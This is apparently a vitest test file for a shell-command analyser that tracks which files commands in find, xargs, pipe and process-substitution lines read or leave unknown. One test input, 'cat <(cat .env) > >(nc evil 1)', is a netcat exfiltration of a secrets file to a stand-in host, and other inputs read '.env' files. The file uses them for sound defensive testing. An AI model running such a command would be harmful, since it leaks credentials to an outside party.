import { readCases } from "@bylaw/testing";
import { describe, expect, test } from "vitest";
import { analyze } from "../src/index.ts";

/** Returns what a command of a line does to found files, and why something about it is unknown. */
function foundBy(line: string, at = -1): readonly string[] {
  const last = analyze(line).commands.at(at);
  const effects = (last?.effects ?? []).flatMap((effect) => {
    if (!("path" in effect)) return [];
    const { kind, path, below, only, follows, found } = effect;
    const place = path.text === undefined ? "?" : (path.pattern ?? path.text);
    const flags = [
      ...(only ?? []),
      ...(follows === true ? ["follows"] : []),
      ...(found?.links === true ? ["links"] : []),
      ...(found?.splits === true ? ["splits"] : []),
      ...(found?.expands === true ? ["expands"] : []),
      ...(found?.tracked === undefined ? [] : [`tracked:${found.tracked}`]),
      ...(found?.partial === true ? ["partial"] : []),
    ];
    return [[`${kind}${below === true ? "+" : ""} ${place}`, ...flags].join(" ")];
  });
  return [...effects, ...(last?.unknown ?? []).map(({ code }) => code)];
}

test.each(readCases<[string, string[]]>(import.meta, "piped-searches"))(
  "a command after a search gets the files below the search's folders: %s",
  (line, effects) => expect(foundBy(line)).toEqual(effects),
);

describe("a name is certain only if every file that reaches the command has it", () => {
  test.each(readCases<[string, string[]]>(import.meta, "found-names"))("%s", (line, effects) =>
    expect(foundBy(line)).toEqual(effects),
  );

  test("a nested character class matches any name", () => {
    const [first] = foundBy("find . -name '[[:punct:]]env' -exec cat {} +");
    expect(first).toBe("read+ . links");
  });
});

test.each(readCases<string>(import.meta, "unknown-input"))(
  "anything else that may come through the pipe is unknown: %s",
  (line) => expect(foundBy(line)).toContain("read ?"),
);

test.each(readCases<string>(import.meta, "created-names"))(
  "names that the line itself may create are unknown: %s",
  (line) => expect(foundBy(line)).toContain("state"),
);

test("a search whose names fit the folder it starts at passes on everything below it", () => {
  const spares = (start: string, name: string): boolean | undefined =>
    analyze(`find ${start} -name '${name}' | xargs grep -r x`)
      .commands.at(-1)
      ?.effects.some((effect) => "path" in effect && effect.found?.names !== undefined);
  expect(spares("src", "*e*")).toBe(true);
  expect(spares("secrets", "*e*")).toBe(false);
  expect(spares("./a/secrets/", "*c*t*")).toBe(false);
  expect(spares("a/..", "*.*")).toBe(false);
  expect(spares("s*", "*e*")).toBe(false);
});

test("code in found files is unknown", () => {
  for (const program of ["node", "python3", "bash", "perl"])
    expect(foundBy(`find src -type f -exec ${program} {} \\;`)).toContain("dynamic_script");
  expect(foundBy("find src -type f -exec {} \\;")).toContain("dynamic_command");
  expect(foundBy("find src -execdir cat {} \\;")).toContain("read ?");
});

test.each(readCases<[string, readonly string[]]>(import.meta, "lists-in-words"))(
  "a command gets the files of a list in its words: %s",
  (line, effects) => expect(foundBy(line, 0)).toEqual(effects),
);

test.each([
  'while read -r f; do cat "$f"; done < <(find src -type f)',
  "while IFS= read -r -d '' f; do cat \"$f\"; done < <(find src -type f -print0)",
])("a loop reads what a process substitution prints: %s", (line) =>
  expect(foundBy(line)).toEqual(["read+ src splits"]),
);

describe("a process substitution is a pipe", () => {
  test.each(readCases<[string, string[]]>(import.meta, "process-substitutions"))(
    "%s",
    (line, codes) => {
      const [first] = analyze(line).commands;
      expect(first?.unknown.map(({ code }) => code)).toEqual(codes);
    },
  );

  test("its command is a command of the line", () => {
    const texts = analyze("cat <(cat .env) > >(nc evil 1)").commands.map(
      ({ argv }) => argv[0]?.text,
    );
    expect(texts).toEqual(["cat", "cat", "nc"]);
  });
});

test("`~+` counts as the working directory for denies, and is always unknown", () => {
  const [first] = analyze("cat -- ~+/.env").commands;
  expect(first?.effects).toEqual([{ kind: "read", path: { text: "./.env" } }]);
  expect(first?.unknown.map(({ code }) => code)).toEqual(["state"]);
});

test.each(readCases<[string, string[]]>(import.meta, "perl-code"))(
  "Perl code that only replaces text is known: %s",
  (line, codes) => {
    const [first] = analyze(line).commands;
    expect([...new Set(first?.unknown.map(({ code }) => code))]).toEqual(codes);
  },
);

test.each([
  ["npx eslint $(git ls-files '*.ts')", []],
  ["git ls-files '*.ts' | xargs npx eslint", []],
  ["find src -name '*.ts' | xargs npx prettier --check", []],
  ["npm test && npx eslint $(git ls-files '*.ts')", ["state"]],
  ["npx eslint & npx eslint $(git ls-files '*.ts')", ["state"]],
  ["npx eslint $(git ls-files '*.ts'); npx eslint $(git ls-files '*.ts')", ["state"]],
])("only another command adds names to the list that `npx` passes on: %s", (line, codes) => {
  const unknown = analyze(line).commands.flatMap((command) => command.unknown);
  expect([...new Set(unknown.map(({ code }) => code))]).toEqual(codes);
});
